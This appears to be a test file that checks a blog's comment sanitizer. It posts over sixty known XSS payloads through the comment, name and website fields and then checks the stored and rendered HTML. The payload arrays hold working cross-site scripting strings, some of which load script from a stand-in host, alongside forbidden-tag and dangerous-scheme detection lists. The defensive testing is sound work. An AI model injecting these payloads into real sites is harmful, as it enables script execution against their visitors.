import { DomUtils } from 'htmlparser2';
import request from 'supertest';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeTestApp, SEED_PATH, type TestApp } from '../support/app.js';
import { canonicalTagProblems, parse, scheme } from '../support/comment-html-checks.js';
import { manualClock, submitComment, type CommentFields } from '../support/comments.js';

/*
 * Known XSS payloads posted through the real HTTP stack. For each one, the stored row and the page a
 * reader gets must carry no executable content. A fresh app per payload keeps the per-IP rate limit
 * (20 posts in 10 minutes) out of the way; the clock still moves and the email still varies.
 */

type Elem = ReturnType<typeof DomUtils.getElementsByTagName>[number];

let t: TestApp;
let clock: ReturnType<typeof manualClock>;
let serial = 0;
beforeEach(() => {
  clock = manualClock();
  t = makeTestApp({ now: clock.now });
  // Approve first-time authors and links, so every payload is shown to every reader.
  t.services.settings.update({ requirePreviouslyApproved: false, moderationLinks: 0 } as never);
});
afterEach(() => t.close());

interface Row {
  id: number;
  status: string;
  author_name: string;
  author_url: string;
  body_html: string;
}
const rows = () => t.db.prepare('SELECT * FROM comments ORDER BY id').all() as Row[];

/** Posts one comment as a new reader, 16 s after the previous one, with an email of its own. */
async function post(fields: CommentFields) {
  clock.advance(16);
  serial += 1;
  return submitComment(t, clock, { email: `reader${serial}@example.org`, comment: `Comment number ${serial}`, ...fields });
}

// ---------------------------------------------------------------------------------------------
// "No executable content" checks
// ---------------------------------------------------------------------------------------------

const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'cite', 'data', 'poster', 'background', 'srcset', 'xlink:href', 'dynsrc', 'lowsrc', 'codebase', 'longdesc', 'manifest', 'ping', 'usemap']);
/** Elements that must never come out of a comment, wherever they sit on the page. */
const FORBIDDEN_TAGS = new Set([
  'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'param', 'base', 'meta', 'link', 'form',
  'input', 'button', 'textarea', 'select', 'option', 'keygen', 'isindex', 'svg', 'math', 'template', 'noscript', 'noembed',
  'noframes', 'xmp', 'plaintext', 'video', 'audio', 'source', 'track', 'details', 'marquee', 'table', 'body', 'html', 'head',
  'title', 'xss', 'image', 'bgsound', 'layer', 'ilayer', 'portal', 'foreignobject',
]);

/** What a browser does to a URL before it reads the scheme: drop C0 controls and spaces, fold case. */
const DANGEROUS_SCHEME = /^(javascript|data|vbscript|livescript|mocha|mhtml|jar|file):/;

const elementsOf = (nodes: Parameters<typeof DomUtils.findAll>[1]) => DomUtils.findAll(() => true, nodes);

/** Problems in parsed markup that could run script or load active content. Empty when clean. */
function executableProblems(elements: Elem[]): string[] {
  const problems: string[] = [];
  for (const el of elements) {
    const name = el.name.toLowerCase();
    if (FORBIDDEN_TAGS.has(name)) problems.push(`<${name}> element`);
    for (const [attr, value] of Object.entries(el.attribs)) {
      const a = attr.toLowerCase();
      if (/^on/.test(a)) problems.push(`${a}= handler on <${name}>`);
      if (a === 'style' || a === 'srcdoc' || a === 'formaction' || a === 'xmlns' || a.includes(':')) problems.push(`${a}= attribute on <${name}>`);
      if (URL_ATTRIBUTES.has(a) && DANGEROUS_SCHEME.test(scheme(value))) problems.push(`${a}="${value}" on <${name}>`);
      if (a === 'http-equiv') problems.push(`http-equiv on <${name}>`);
    }
  }
  return problems;
}

/**
 * Checks stored comment HTML without trusting any one parser: every raw `<` must open or close an
 * allow-listed tag in the canonical form sanitize-html writes (quoted attributes, `<` `>` `"` escaped),
 * every attribute must be allow-listed for its tag, and href/cite must be http, https or mailto.
 */
function storedBodyProblems(html: string): string[] {
  const problems = canonicalTagProblems(html);
  problems.push(...executableProblems(elementsOf(parse(html).children) as Elem[]));
  return problems;
}

const hasClass = (el: Elem, cls: string) => (el.attribs.class ?? '').split(/\s+/).includes(cls);

/** The post page as a stranger sees it, with the comment list checked for executable content. */
async function pageProblems(): Promise<{ problems: string[]; html: string; doc: ReturnType<typeof parse> }> {
  const res = await request(t.app).get(SEED_PATH).expect(200);
  const html = res.text;
  const doc = parse(html);
  const problems: string[] = [];
  const lists = DomUtils.findAll((el) => el.name === 'ol' && hasClass(el, 'comment-list'), doc.children);
  for (const list of lists) {
    const raw = html.slice(list.startIndex!, list.endIndex! + 1);
    if (/<script/i.test(raw)) problems.push('raw <script inside the comment list');
    if (/<(iframe|object|embed|style|base|meta|form|svg|math)[\s/>]/i.test(raw)) problems.push('forbidden raw tag inside the comment list');
    problems.push(...executableProblems(elementsOf(list.children) as Elem[]).map((p) => `comment list: ${p}`));
  }
  // Across the whole page: no handlers, no script URLs, only the page's own scripts.
  for (const el of elementsOf(doc.children) as Elem[]) {
    for (const [attr, value] of Object.entries(el.attribs)) {
      if (/^on/i.test(attr)) problems.push(`page: ${attr}= on <${el.name}>`);
      if (URL_ATTRIBUTES.has(attr.toLowerCase()) && DANGEROUS_SCHEME.test(scheme(value))) problems.push(`page: ${attr}="${value}" on <${el.name}>`);
    }
    if (el.name === 'script') {
      const own = el.attribs.type === 'application/ld+json' || (el.attribs.src ?? '').startsWith('/');
      if (!own) problems.push(`page: foreign <script ${JSON.stringify(el.attribs)}>`);
      if (/alert|msgbox|evil\.example/.test(DomUtils.textContent(el))) problems.push('page: payload inside a <script>');
    }
    if (['iframe', 'object', 'embed', 'base', 'frame', 'svg', 'math'].includes(el.name)) problems.push(`page: <${el.name}> element`);
    if (el.name === 'meta' && el.attribs['http-equiv']) problems.push('page: <meta http-equiv>');
  }
  return { problems, html, doc };
}

/** The rendered comment with this id: its author block and content block. */
function renderedComment(doc: ReturnType<typeof parse>, html: string, id: number) {
  const li = DomUtils.findOne((el) => el.name === 'li' && el.attribs.id === `comment-${id}`, doc.children);
  expect(li, `comment-${id} is on the page`).toBeTruthy();
  const author = DomUtils.findOne((el) => hasClass(el, 'comment-author'), li!.children)!;
  const content = DomUtils.findOne((el) => hasClass(el, 'comment-content'), li!.children)!;
  const inner = content.children.length
    ? html.slice(content.children[0].startIndex!, content.children[content.children.length - 1].endIndex! + 1)
    : '';
  return { author, contentInner: inner };
}

/** Posts a payload, expects it published, and checks the row and the page. */
async function expectPublishedClean(fields: CommentFields) {
  const res = await post(fields);
  expect(res.status, `answer to ${JSON.stringify(fields)}: ${res.text.slice(0, 200)}`).toBe(303);
  const [row] = rows();
  expect(row.status).toBe('approved');
  expect(storedBodyProblems(row.body_html), `stored body_html ${JSON.stringify(row.body_html)}`).toEqual([]);
  if (row.author_url) {
    expect(row.author_url).toMatch(/^https?:\/\/[^\s"<>]+$/);
  }

  const { problems, html, doc } = await pageProblems();
  expect(problems, `rendered page for ${JSON.stringify(fields)}`).toEqual([]);
  const { author, contentInner } = renderedComment(doc, html, row.id);
  // The comment's HTML reaches the page exactly as stored (so the stored checks hold for the page).
  expect(contentInner).toBe(row.body_html);
  // The name is text: the reader sees exactly what was typed, and no element came out of it.
  expect(DomUtils.textContent(author)).toBe(row.author_name);
  const authorElements = elementsOf(author.children) as Elem[];
  expect(authorElements.map((el) => el.name)).toEqual(row.author_url ? ['a'] : []);
  if (row.author_url) expect(authorElements[0].attribs.href).toBe(row.author_url);
  return row;
}

// ---------------------------------------------------------------------------------------------
// Payloads
// ---------------------------------------------------------------------------------------------

const B64_SCRIPT = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';

/** Payloads for the comment text. */
const BODY_PAYLOADS: [string, string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['uppercase external script', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['script with a data: src', '<script src="data:text/javascript,alert(1)"></script>'],
  ['unclosed script', 'hello <script>alert(1)'],
  ['script split across lines', '<script\n>alert(1)</script\n>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img javascript: src', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['img onerror after a newline', '<img src=1 onerror\n=alert(1)>'],
  ['img src/alt eval trick', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['img with broken quotes', '<img """><script>alert(1)</script>">'],
  ['body onload', '<body onload=alert(1)>text'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg/onload without a space', '<svg/onload=alert(1)>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg with xlink:href link', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg animate', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['math href', '<math href="javascript:alert(1)">CLICK</math>'],
  ['math maction', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['math/mglyph mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['svg style mXSS', '<p><svg><style><img src=x onerror=alert(1)></style></svg></p>'],
  ['a javascript:', '<a href="javascript:alert(1)">x</a>'],
  ['a mixed-case JaVaScRiPt:', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a &#x6A; hex entity', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ['a &#106; decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['a &#0000106 zero-padded entities', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
  ['a hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['a &#x09; tab entity in scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['a &#x0A; newline entity in scheme', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['a &Tab; named entity in scheme', '<a href="javas&Tab;cript:alert(1)">x</a>'],
  ['a &NewLine; named entity in scheme', '<a href="javas&NewLine;cript:alert(1)">x</a>'],
  ['a literal tab in scheme', '<a href="jav\tascript:alert(1)">x</a>'],
  ['a literal newline in scheme', '<a href="jav\nascript:alert(1)">x</a>'],
  ['a literal CR in scheme', '<a href="jav\rascript:alert(1)">x</a>'],
  ['a NUL in scheme', '<a href="java\u0000script:alert(1)">x</a>'],
  ['a leading space', '<a href=" javascript:alert(1)">x</a>'],
  ['a leading entity space', '<a href="  &#x20;javascript:alert(1)">x</a>'],
  ['a leading control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a leading &#1;', '<a href="&#1;javascript:alert(1)">x</a>'],
  ['a &colon;', '<a href="javascript&colon;alert(1)">x</a>'],
  ['a unquoted &#58 without semicolon', '<a href=javascript&#58alert(1)>x</a>'],
  ['a/href without a space', '<a/href="javascript:alert(1)">x</a>'],
  ['a data: base64 html', `<a href="data:text/html;base64,${B64_SCRIPT}">x</a>`],
  ['a DATA: html with script', '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'],
  ['a vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a VBScript&#58;', '<a href="VBScript&#58;msgbox(1)">x</a>'],
  ['a protocol-relative', '<a href="//evil.example/x">x</a>'],
  ['a unclosed with script URL', '<a href="javascript:alert(1)" <b>x</b>'],
  ['a with onclick and onmouseover', '<a href="https://ok.example/" onclick="alert(1)" onmouseover=alert(1)>x</a>'],
  ['a with style url(javascript:)', '<a href="https://ok.example/" style="background:url(javascript:alert(1))">x</a>'],
  ['a with title breakout', '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>x</a>'],
  ['a with blank line inside title', '<a href="https://ok.example/" title="one\n\n"><img src=x onerror=alert(1)>">x</a>'],
  ['a with newline inside title', '<a title="a\nb" href="https://ok.example/">x</a> <b onclick="alert(1)">y</b>'],
  ['a end tag with newline then script', '<a href="https://ok.example/">x</a\n><script>alert(1)</script>'],
  ['a target and rel override', '<a href="https://ok.example/" target="_blank" rel="opener">x</a>'],
  ['b onmouseover', '<b onmouseover=alert(1)>x</b>'],
  ['strong style expression()', '<strong style="x:expression(alert(1))">x</strong>'],
  ['abbr onclick', '<abbr title="x" onclick=alert(1)>x</abbr>'],
  ['del onclick', '<del datetime="x" onclick=alert(1)>x</del>'],
  ['blockquote cite javascript:', '<blockquote cite="javascript:alert(1)">q</blockquote>'],
  ['q cite entity javascript:', '<q cite="&#x6A;avascript:alert(1)">q</q>'],
  ['div style expression()', '<div style="width: expression(alert(1));">x</div>'],
  ['div/onmouseover', '<div/onmouseover=\'alert(1)\'>x</div>'],
  ['style tag with url(javascript:)', '<style>body{background:url("javascript:alert(1)")}</style>'],
  ['style tag @import', '<style>@import \'https://evil.example/x.css\';</style>'],
  ['style/onload', '<style/onload=alert(1)>'],
  ['link stylesheet javascript:', '<link rel="stylesheet" href="javascript:alert(1)">'],
  ['iframe javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['IFRAME onmouseover', '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['meta refresh javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh data:', `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${B64_SCRIPT}">`],
  ['form action', '<form action="javascript:alert(1)"><input type="submit"></form>'],
  ['form button formaction', '<form><button formaction="javascript:alert(1)">x</button></form>'],
  ['bare button formaction', '<button formaction=javascript:alert(1)>x</button>'],
  ['isindex', '<isindex action="javascript:alert(1)" type=submit>'],
  ['input autofocus', '<input onfocus=alert(1) autofocus>'],
  ['select autofocus', '<select onfocus=alert(1) autofocus>'],
  ['textarea autofocus', '<textarea onfocus=alert(1) autofocus>'],
  ['keygen autofocus', '<keygen onfocus=alert(1) autofocus>'],
  ['closing textarea then script', '</textarea><script>alert(1)</script>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>'],
  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['custom element handler', '<xss onafterscriptexecute=alert(1)><script>1</script>'],
  ['object javascript:', '<object data="javascript:alert(1)"></object>'],
  ['object data: html', `<object data="data:text/html;base64,${B64_SCRIPT}"></object>`],
  ['object scriptlet', '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>'],
  ['embed javascript:', '<embed src="javascript:alert(1)">'],
  ['embed data: svg', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['nested <<script>script>', '<<script>script>alert(1)<</script>/script>'],
  ['split <scr<script>ipt>', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script inside a comment', '<!--<script>alert(1)</script>-->'],
  ['abruptly closed comment', '<!--><script>alert(1)</script>-->'],
  ['comment closing inside attribute', '<!-- <a title="--><script>alert(1)</script>"> -->'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['CDATA breakout', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['noscript style breakout', '<noscript><style></noscript><img src=x onerror=alert(1)>'],
  ['attribute breakout in text', '"><img src=x onerror=alert(1)>'],
  ['single-quote breakout in text', '\'><script>alert(1)</script>'],
  ['processing instruction', '<?xml version="1.0"?><script>alert(1)</script>'],
  ['entity-encoded tag stays text', '&lt;script&gt;alert(1)&lt;/script&gt;'],
];

/** Payloads for the name field, with a normal comment text. */
const NAME_PAYLOADS: [string, string][] = [
  ['attribute breakout', '"><img src=x onerror=alert(1)>'],
  ['script', '<script>alert(1)</script>'],
  ['closing the author tag', '</b></a><script>alert(1)</script>'],
  ['single-quote handler', "' onmouseover='alert(1)"],
  ['double-quote handler', '" onmouseover="alert(1)'],
  ['a link with javascript:', '<a href="javascript:alert(1)">Ani</a>'],
  ['svg onload after the name', 'Ani</a><svg onload=alert(1)>'],
  ['entity-encoded script', '&lt;script&gt;alert(1)&lt;/script&gt;'],
];

/** Payloads for the website field, with a normal comment text. */
const URL_PAYLOADS: [string, string][] = [
  ['javascript:', 'javascript:alert(1)'],
  ['mixed-case javascript:', 'JaVaScRiPt:alert(1)'],
  ['leading space', ' javascript:alert(1)'],
  ['tab in the scheme', 'java\tscript:alert(1)'],
  ['entity in the scheme', '&#x6A;avascript:alert(1)'],
  ['data:', 'data:text/html,<script>alert(1)</script>'],
  ['vbscript:', 'vbscript:msgbox(1)'],
  ['attribute breakout', '"><img src=x onerror=alert(1)>'],
  ['breakout after a host', 'example.org" onmouseover="alert(1)'],
  ['breakout in the path', 'https://ok.example/"><script>alert(1)</script>'],
  ['single quote in the path', "https://ok.example/' onmouseover='alert(1)"],
  ['breakout in the query', 'http://ok.example/?q="><svg onload=alert(1)>'],
];

// ---------------------------------------------------------------------------------------------

describe('the no-executable-content check itself', () => {
  it('passes canonical allow-listed markup', () => {
    expect(storedBodyProblems('<p>Hi <a href="https://ok.example/" rel="nofollow ugc">x</a> &lt;script&gt; onload=1<br />\n</p>')).toEqual([]);
  });

  it.each([
    '<p><script>alert(1)</script></p>',
    '<p><img src="x" onerror="alert(1)" /></p>',
    '<p><a href="jav&#x09;ascript:alert(1)" rel="nofollow ugc">x</a></p>',
    '<p><a href="data:text/html,x" rel="nofollow ugc">x</a></p>',
    '<p><a href="https://ok.example/" onclick="alert(1)" rel="nofollow ugc">x</a></p>',
    '<p><b style="x">x</b></p>',
    '<p><svg></svg></p>',
    '<p><!-- x --></p>',
    '<p><b title=x>unquoted</b></p>',
    '<p><a href="https://ok.example/" rel="opener">x</a></p>',
  ])('flags %s', (html) => {
    expect(storedBodyProblems(html)).not.toEqual([]);
  });

  it('flags a rendered page whose comment was stored unsanitized', async () => {
    t.db
      .prepare("INSERT INTO comments (post_id, status, author_name, body_html) VALUES (1, 'approved', 'x', ?)")
      .run('<p><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a><script>alert(1)</script></p>');
    const { problems } = await pageProblems();
    expect(problems).toEqual(expect.arrayContaining([
      'raw <script inside the comment list',
      'comment list: <script> element',
      'comment list: onerror= handler on <img>',
      'comment list: href="javascript:alert(1)" on <a>',
      'page: onerror= on <img>',
    ]));
  });
});

describe('POST /comments/ with XSS payloads in the comment text', () => {
  it(`has at least 60 payloads (${BODY_PAYLOADS.length + NAME_PAYLOADS.length + URL_PAYLOADS.length} in all)`, () => {
    expect(BODY_PAYLOADS.length + NAME_PAYLOADS.length + URL_PAYLOADS.length).toBeGreaterThanOrEqual(60);
    expect(new Set(BODY_PAYLOADS.map(([label]) => label)).size).toBe(BODY_PAYLOADS.length);
  });

  it.each(BODY_PAYLOADS)('stores and shows %s with nothing executable', async (_label, payload) => {
    await expectPublishedClean({ comment: `Before ${serial}. ${payload} After.` });
  });
});

describe('POST /comments/ with XSS payloads in the name', () => {
  it.each(NAME_PAYLOADS)('keeps a name with %s as text, escaped on the page', async (_label, payload) => {
    const row = await expectPublishedClean({ author: payload });
    expect(row.author_name).toBe(payload.trim());
  });

  it.each(NAME_PAYLOADS)('keeps a name with %s escaped when it links to the website', async (_label, payload) => {
    const row = await expectPublishedClean({ author: payload, url: 'https://ani.example/' });
    expect(row.author_url).toBe('https://ani.example/');
  });
});

describe('POST /comments/ with XSS payloads in the website', () => {
  it.each(URL_PAYLOADS)('refuses or neutralizes a website with %s', async (_label, payload) => {
    clock.advance(16);
    serial += 1;
    const res = await submitComment(t, clock, { email: `reader${serial}@example.org`, comment: `Website ${serial}`, url: payload });
    expect([303, 422]).toContain(res.status);
    if (res.status === 422) {
      expect(rows()).toHaveLength(0);
      expect(res.text).toContain('Please enter a website address starting with http:// or https://');
      // The refused value comes back in the form as an attribute value, nothing more.
      const doc = parse(res.text);
      const input = DomUtils.findOne((el) => el.name === 'input' && el.attribs.id === 'url', doc.children)!;
      expect(input.attribs.value).toBe(payload);
      const respond = DomUtils.findOne((el) => el.attribs.id === 'respond', doc.children)!;
      // The form's own login button (Log in with Mastodon) posts the form to /auth/…: that formaction is the page's.
      const own = (el: Elem) => el.name === 'button' && /^\/auth\/[a-z]+\/$/.test(el.attribs.formaction ?? '');
      const problems = executableProblems((elementsOf(respond.children) as Elem[]).filter((el) => !own(el))).filter(
        (p) => !/^<(form|input|button|textarea)> element$/.test(p),
      );
      expect(problems).toEqual([]);
      expect((await pageProblems()).problems).toEqual([]);
    } else {
      const [row] = rows();
      expect(row.author_url).toMatch(/^https?:\/\/[^\s"<>]+$/);
      await expectPublishedClean({ comment: 'second comment to render again', url: payload });
    }
  });
});

describe('the comment form after a refused XSS submission', () => {
  it('keeps every payload as inert values in the re-rendered form', async () => {
    const fields = {
      comment: '</textarea><script>alert(1)</script><img src=x onerror=alert(1)>',
      author: '"><svg onload=alert(1)>',
      email: '"><script>alert(1)</script>@x',
      url: 'javascript:alert(1)',
      parent_id: '"><script>alert(1)</script>',
    };
    const res = await post(fields);
    expect(res.status).toBe(422);
    expect(rows()).toHaveLength(0);
    const doc = parse(res.text);
    const byId = (id: string) => DomUtils.findOne((el) => el.attribs.id === id, doc.children)!;
    // A textarea holds escaped text (htmlparser2 leaves it undecoded; a browser decodes it to the payload).
    const textarea = DomUtils.textContent(byId('comment'));
    expect(textarea).not.toContain('<');
    expect(textarea.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&')).toBe(fields.comment);
    expect(byId('author').attribs.value).toBe(fields.author);
    expect(byId('email').attribs.value).toBe(fields.email);
    expect(byId('url').attribs.value).toBe(fields.url);
    expect(byId('parent_id').attribs.value).toBe('0');
    expect(res.text).not.toMatch(/<script>alert/i);
    const scripts = DomUtils.getElementsByTagName('script', doc.children);
    expect(scripts.every((s) => s.attribs.type === 'application/ld+json' || (s.attribs.src ?? '').startsWith('/'))).toBe(true);
    const handlers = (elementsOf(doc.children) as Elem[]).flatMap((el) => Object.keys(el.attribs).filter((a) => /^on/i.test(a)));
    expect(handlers).toEqual([]);
  });
});

describe('allowed comment markup', () => {
  it('keeps strong, links with rel="nofollow ugc", blockquote, code and friends', async () => {
    const row = await expectPublishedClean({
      comment: [
        '<strong>Bold</strong> and <em>emphasis</em>, <b>b</b> <i>i</i> <s>s</s> <del datetime="2026-01-01">gone</del>',
        '<a href="https://example.org/page?x=1&amp;y=2" title="A page">a link</a> and <a href="mailto:ani@example.org">mail</a>',
        '',
        '<blockquote cite="https://example.org/source">Quoted words</blockquote>',
        '<code>if (a &lt; b) return;</code> <abbr title="HyperText Markup Language">HTML</abbr> <q cite="https://example.org/q">q</q> <cite>Book</cite>',
      ].join('\n'),
    });
    const html = row.body_html;
    expect(html).toContain('<strong>Bold</strong>');
    expect(html).toContain('<em>emphasis</em>');
    expect(html).toContain('<del datetime="2026-01-01">gone</del>');
    expect(html).toContain('<a href="https://example.org/page?x=1&amp;y=2" title="A page" rel="nofollow ugc">a link</a>');
    expect(html).toContain('<a href="mailto:ani@example.org" rel="nofollow ugc">mail</a>');
    expect(html).toContain('<blockquote cite="https://example.org/source">\n<p>Quoted words</p>\n</blockquote>');
    expect(html).toContain('<code>if (a &lt; b) return;</code>');
    expect(html).toContain('<abbr title="HyperText Markup Language">HTML</abbr>');
    // A quote is a block between paragraphs, as in WordPress; no empty paragraph around it.
    expect(html).toMatch(/^<p>[^]*<br \/>[^]*<\/p>\n<blockquote [^]*<\/blockquote>\n<p><code>[^]*<\/p>$/);
    expect(html).not.toContain('<p></p>');
    const page = await request(t.app).get(SEED_PATH);
    expect(page.text).toContain('<strong>Bold</strong>');
    expect(page.text).toContain('<a href="https://example.org/page?x=1&amp;y=2" title="A page" rel="nofollow ugc">a link</a>');
    expect(page.text).toContain('<blockquote cite="https://example.org/source">\n<p>Quoted words</p>\n</blockquote>');
    expect(page.text).toContain('<code>if (a &lt; b) return;</code>');
  });

  it('keeps the link text and safe attributes of a link whose handlers were dropped', async () => {
    const row = await expectPublishedClean({ comment: '<a href="https://ok.example/" onclick="alert(1)" rel="opener" target="_blank">safe</a>' });
    expect(row.body_html).toBe('<p><a href="https://ok.example/" rel="nofollow ugc">safe</a></p>');
  });

  it('keeps the text of a link whose href was dropped, without the href', async () => {
    const row = await expectPublishedClean({ comment: '<a href="&#x6A;avascript:alert(1)">click</a>' });
    expect(row.body_html).toBe('<p><a rel="nofollow ugc">click</a></p>');
  });

  it('shows an escaped tag as text, not as a tag', async () => {
    const row = await expectPublishedClean({ comment: 'Use &lt;script&gt; carefully' });
    expect(row.body_html).toBe('<p>Use &lt;script&gt; carefully</p>');
    const page = await request(t.app).get(SEED_PATH);
    expect(page.text).toContain('Use &lt;script&gt; carefully');
  });
});

describe('newlines inside attribute values', () => {
  // Regression: sanitizeComment used to turn "\n\n" into "</p>\n<p>" and "\n" into "<br />\n" inside attribute
  // values too, which the second pass escaped into literal text (never executable, but corrupting titles and hrefs):
  //   <a title="a\nb" href="https://ok.example/">x</a>
  //     -> <p><a title="a&lt;br /&gt;\nb" href="https://ok.example/" rel="nofollow ugc">x</a></p>
  // Fixed in 7b68d06 by flattening whitespace in attribute values before paragraphs are made.
  it('keeps an attribute value free of the paragraph and line-break markup', async () => {
    const row = await expectPublishedClean({ comment: '<a title="one\ntwo" href="https://ok.example/">x</a> and <abbr title="a\n\nb">ab</abbr>' });
    expect(row.body_html).not.toMatch(/&lt;br|&lt;\/?p&gt;/);
  });
});
